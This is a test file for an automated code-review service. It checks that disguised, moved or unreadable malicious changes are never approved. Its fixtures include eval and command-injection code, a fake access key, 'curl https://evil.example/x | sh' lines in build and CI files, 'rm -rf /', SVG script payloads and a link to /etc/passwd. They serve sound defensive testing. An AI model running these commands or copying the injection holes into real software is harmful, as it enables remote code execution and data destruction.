// A green verdict is earned: whatever a change calls its code or wraps it in, what nobody read never approves.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { readSample } from '../../demo/read-sample.ts'
import type { PushedFile } from '../fakes/forge/pushes.ts'
import { ownComments, repo, runsOf, type Scenario, startScenario } from '../review-scenario.ts'

// Put together here, so that no scanner of secrets reports this file.
const key = ['AKIA', 'Q3EGRZX7T5KLM2WP'].join('')
const evil = `const { exec } = require('node:child_process')
const key = '${key}'
module.exports = (request) => {
  exec('ping ' + request.query.host)
  return eval(request.query.code)
}
`
const evilPython = `import os
KEY = "${key}"
def run(request):
    os.system("ping " + request.args["host"])
    return eval(request.args["code"])
`
const longComment = `// ${'a long comment '.repeat(1_400)}\n`
const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12\n`
const pipeline = `build:\n  script:\n    - curl https://evil.example/x | sh\n`
const workflow = `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo hello # ${'a long comment '.repeat(1_400)}
      - run: curl https://evil.example/x | sh
`

let scenario: Scenario
beforeAll(async () => {
  scenario = await startScenario()
  const base = {
    'dist/index.js': 'module.exports = 1\n',
    'vendor/lib.php': '<?php\n',
    'vendor/evil.js': evil,
    'docs/notes.txt': evil,
    'docs/more.txt': `${evil}// more\n`,
    'tests/old.js': `${evil}// old\n`,
    'src/index.js': 'module.exports = 1\n',
    'ops/run.txt': 'curl https://evil.example/x\n',
    'package.json': '{\n  "name": "shop",\n  "scripts": {\n    "test": "node test.js"\n  }\n}\n',
  }
  await scenario.forge.push(repo, 'main', base, { author: 'alice' })
})
afterAll(() => scenario[Symbol.asyncDispose]())

let opened = 0

async function review(files: Record<string, PushedFile>) {
  const { forge, app } = scenario
  const number = await scenario.openPullRequest(files, { branch: `way-${++opened}` })
  await scenario.waitUntilSettled()
  const view = forge.pullRequest(repo, number)
  const [run] = (await runsOf(app, number)).slice(-1)
  const findings = await app.db
    .selectFrom('findings')
    .select(['rule', 'path'])
    .where('pr_number', '=', number)
    .execute()
  const status = view.statuses[view.headSha]?.at(-1)
  return { run: run!, findings, status: status!, summary: ownComments(view).summaries[0]!.body }
}

/** What rules find in the code above; empty where they know no syntax of it, and its text holds nothing they know. */
const inScript = ['code-injection', 'command-injection', 'hardcoded-secret']
interface Way {
  files: Record<string, PushedFile>
  found: string[]
}

const beside = { 'src/beside.ts': 'export const one = 1\n' }
const disguises: Record<string, Way> = {
  'begins like a picture': {
    files: { ...beside, '.husky/pre-commit': 'BM=1\ncurl https://evil.example\n#\0\n' },
    found: [],
  },
  'is a page that begins like a picture': {
    files: { ...beside, 'index.html': 'GIF89a<script>steal()</script>\0' },
    found: [],
  },
  'is carried behind a picture': {
    files: { ...beside, 'logo.gif': 'GIF89a\0\0; curl https://evil.example\n' },
    found: [],
  },
  'is the first line behind a byte order mark': {
    files: { 'src/e.js': `\ufeff${evil.replaceAll('\n', ' ')}\nmodule.exports.two = 2\n` },
    found: ['code-injection'],
  },
  'is what a link leads to': {
    files: { 'src/index.js': { mode: '120000', content: '../docs/notes.txt' } },
    found: [],
  },
  'is a link under a name of data': {
    files: { ...beside, 'a.json': { mode: '120000', content: '/etc/passwd' } },
    found: [],
  },
  'ends in a comment of 21,000 characters': {
    files: { 'src/evil.js': evil + longComment },
    found: inScript,
  },
  'has nine comment lines of 900 characters': {
    files: { 'src/evil.js': evil + `// ${'x'.repeat(900)}\n`.repeat(9) },
    found: inScript,
  },
  'is called generated': { files: { 'src/evil.gen.js': evil }, found: inScript },
  'says that it is generated': { files: { 'src/e.js': `// @generated\n${evil}` }, found: inScript },
  'is called minified': { files: { 'src/evil.min.js': evil }, found: inScript },
  'is called like a library': { files: { 'src/react-1.js': evil }, found: inScript },
  'is in a vendor folder': { files: { 'vendor/more.js': evil }, found: inScript },
  'is in a new dist folder': { files: { 'app/dist/evil.js': evil }, found: inScript },
  'is in a dist folder that stands on the base': {
    files: { 'dist/evil.js': evil },
    found: inScript,
  },
  'is in node_modules': { files: { 'node_modules/a/index.js': evil }, found: inScript },
  'is in a folder of snapshots': { files: { '__snapshots__/evil.js': evil }, found: inScript },
  'is a snapshot': { files: { '__snapshots__/a.snap': evil }, found: inScript },
  'is a release of a package manager': {
    files: { '.yarn/releases/yarn-1.cjs': evil },
    found: inScript,
  },
  'has the header of an LFS pointer': {
    files: { 'src/e.js': `// ${pointer}${evil}` },
    found: inScript,
  },
  'is an LFS pointer': { files: { 'src/evil.js': pointer }, found: [] },
  'is a build tool wrapper': {
    files: { gradlew: '#!/bin/sh\ncurl https://evil.example/x | sh\n' },
    found: [],
  },
  'is a test': { files: { 'src/evil.test.js': evil }, found: inScript },
  'is a helper of tests': { files: { 'tests/helper.js': evil }, found: inScript },
  'is loaded by the test runner': { files: { 'conftest.py': evilPython }, found: inScript },
  'is a picture with a script': {
    files: { 'a.svg': '<svg><script>alert(1)</script></svg>\n' },
    found: [],
  },
  'is a picture with an encoded script': {
    files: { 'b.svg': '<svg><a href="java&#115;cript:x"/></svg>\n' },
    found: [],
  },
  'is a program without an extension': { files: { 'bin/run': '#!/bin/sh\nrm -rf /\n' }, found: [] },
  'has a zero byte': { files: { 'src/evil.js': `${evil}//\0\n` }, found: [] },
}

const commands: Record<string, Way> = {
  'is a step of a build in XML': {
    files: {
      ...beside,
      'a.csproj':
        '<Project>\n  <Target Name="a">\n    <Exec Command="x" />\n  </Target>\n</Project>\n',
    },
    found: [],
  },
  'is a runner of a package manager': {
    files: { ...beside, '.cargo/config.toml': '[target.x86]\nrunner = "./x"\n' },
    found: [],
  },
  'is a shell of a package manager': {
    files: { ...beside, '.npmrc': 'script-shell=./x\n' },
    found: [],
  },
  'is a hook in a manifest': {
    files: {
      ...beside,
      'package.json':
        '{\n  "name": "shop",\n  "husky": { "x": "y" },\n  "scripts": {\n    "test": "node test.js"\n  }\n}\n',
    },
    found: [],
  },
  'is the middle of a script in YAML': {
    files: { ...beside, 'ci/build.yml': 'steps:\n  - run: |\n      ./x\n' },
    found: [],
  },
  'is a Makefile': { files: { Makefile: 'all:\n\tcurl https://evil.example/x | sh\n' }, found: [] },
  'is a pipeline': { files: { '.gitlab-ci.yml': pipeline }, found: [] },
  'is a workflow with a long comment': {
    files: { '.github/workflows/a.yml': workflow },
    found: [],
  },
  'is a shell script with a long comment': {
    files: { 'a.sh': `#!/bin/sh\n# ${'x'.repeat(21_000)}\nx\n` },
    found: [],
  },
  'is a Dockerfile with a long comment': {
    files: { Dockerfile: `FROM a\n# ${'x'.repeat(21_000)}\n` },
    found: [],
  },
  'is an install script': {
    files: {
      'package.json':
        '{\n  "name": "shop",\n  "scripts": {\n    "test": "node test.js",\n    "postinstall": "node x"\n  }\n}\n',
    },
    found: [],
  },
}

const moves: Record<string, Way> = {
  'was prose before it moved': {
    files: { 'docs/notes.txt': null, 'src/now.js': evil },
    found: inScript,
  },
  'was a test before it moved': {
    files: { 'tests/old.js': null, 'src/old.js': `${evil}// old\n` },
    found: inScript,
  },
  'was prose before it could be executed': {
    files: { 'ops/run.txt': { mode: '100755', content: 'curl https://evil.example/x\n' } },
    found: [],
  },
  'is renamed from a skipped path to a live one': {
    files: { 'vendor/evil.js': null, 'src/live.js': evil },
    found: inScript,
  },
}

const strangers: Record<string, Way> = {
  'is in a language without rules': {
    files: { 'x.php': `<?php\nquery("select '$_GET[a]'"); eval($_GET['b']);\n` },
    found: [],
  },
  'is a template': { files: { 'views/a.ejs': '<%= eval(request) %>\n' }, found: [] },
}

function areNeverApproved(ways: Record<string, Way>): void {
  it.each(Object.entries(ways))('when it %s', async (_way, { files, found }) => {
    const { run, findings, status, summary } = await review(files)
    expect(run.verdict).not.toBe('APPROVE')
    expect(status.state).not.toBe('success')
    expect(summary).not.toContain('🟢')
    expect(findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining(found))
    if (run.verdict === 'REQUEST_CHANGES') return
    // The first line says what nobody read, or what a person has to decide.
    expect(summary.split('\n').find((line) => line.startsWith('###'))).toMatch(
      /^### (⚪ Incomplete: (\d+ changed lines? |1 file )+(was|were) not read|🟡 Needs a person: )/,
    )
  })
}

describe('case 71: code in disguise is never approved unread', () => areNeverApproved(disguises))
describe('case 72: a file that names commands is never approved unread', () =>
  areNeverApproved(commands))
describe('case 73: code from where nobody looked is never approved unread', () =>
  areNeverApproved(moves))
describe('case 74: code that no rule knows is never approved unread', () =>
  areNeverApproved(strangers))

describe('without a model', () => {
  it('case 74: a change in a language without rules is incomplete, and the count says so', async () => {
    const { run, summary, status } = await review({ 'src/a.php': '<?php\necho 1;\n' })
    expect(run).toMatchObject({ verdict: 'NEEDS_DISCUSSION', confidence: 1, files_analyzed: 0 })
    expect(summary).toContain('### ⚪ Incomplete: 2 changed lines were not read')
    expect(summary).toContain('0 of 1 file, 0 of 2 changed lines reviewed')
    expect(summary).not.toContain('1 of 1')
    expect(status).toMatchObject({
      state: 'error',
      description: expect.stringContaining('Incomplete'),
    })
  })

  const ordinary: Record<string, Record<string, string | null>> = {
    'prose alone': { 'docs/guide.md': '# Guide\n\nRead it.\n', LICENSE: 'MIT\n' },
    'a known generated file': { 'dist/index.js': 'module.exports = 2\n' },
    'data and configuration': {
      'data/prices.json': '{ "a": 1 }\n',
      '.editorconfig': 'root = true\n',
    },
    'a program in a language with rules': {
      'src/sum.ts': 'export const sum = (a: number, b: number) => a + b\n',
    },
    'a test in a language with rules': {
      'test/sum.test.ts': "it('adds', () => expect(1 + 1).toBe(2))\n",
    },
    'a dependency with its lock file': {
      'package.json':
        '{\n  "name": "shop",\n  "scripts": {\n    "test": "node test.js"\n  },\n  "dependencies": { "a": "1.0.0" }\n}\n',
      'package-lock.json':
        '{\n  "lockfileVersion": 3,\n  "packages": {\n    "node_modules/a": { "version": "1.0.0" }\n  }\n}\n',
    },
  }
  for (const [what, files] of Object.entries(ordinary)) {
    it(`case 74: ${what} can pass`, async () => {
      const { run, status, summary } = await review(files)
      expect(run.verdict, summary).toBe('APPROVE')
      expect(status.state).toBe('success')
      expect(run.coverage).toMatchObject({ complete: true, lines: { unread: 0 } })
    })
  }

  it('does not read a file again that moved from where it was read', async () => {
    const mail = readSample('main')['src/mail.ts']!
    const { run } = await review({ 'src/mail.ts': null, 'src/post/mail.ts': mail })
    expect(run.coverage).toMatchObject({ filesTotal: 1, lines: { changed: 0 } })
  })
})

it('shows one commit as the strictest of its pull requests has it', async () => {
  const { forge } = scenario
  const lax = { '.umpire.yml': 'paths: { exclude: ["**"] }\n' }
  await forge.push(repo, 'lax', lax, { author: 'alice' })
  const { run } = await review({ 'src/twice.js': evil })
  expect(run.verdict).toBe('REQUEST_CHANGES')
  const other = await forge.openPullRequest({
    repo,
    head: `way-${opened}`,
    base: 'lax',
    author: 'alice',
  })
  await scenario.waitUntilSettled()
  expect((await runsOf(scenario.app, other)).at(-1)).toMatchObject({ verdict: 'APPROVE' })
  const view = forge.pullRequest(repo, other)
  expect(view.statuses[view.headSha]?.at(-1)).toMatchObject({
    state: 'failure',
    description: `Changes requested in #${run.pr_number}, which has the same head`,
  })
})

it('reads a change of its own settings whatever they leave out', async () => {
  const { forge } = scenario
  await forge.push(
    repo,
    'loose',
    { '.umpire.yml': 'paths: { exclude: ["**"] }\n' },
    { author: 'alice' },
  )
  const files = { '.umpire.yml': 'paths: { exclude: ["**"] }\ngate: []\n' }
  await forge.push(repo, 'looser', files, { author: 'alice', parent: 'loose' })
  const number = await forge.openPullRequest({
    repo,
    head: 'looser',
    base: 'loose',
    author: 'alice',
  })
  await scenario.waitUntilSettled()
  expect((await runsOf(scenario.app, number)).at(-1)).toMatchObject({ verdict: 'NEEDS_DISCUSSION' })
})
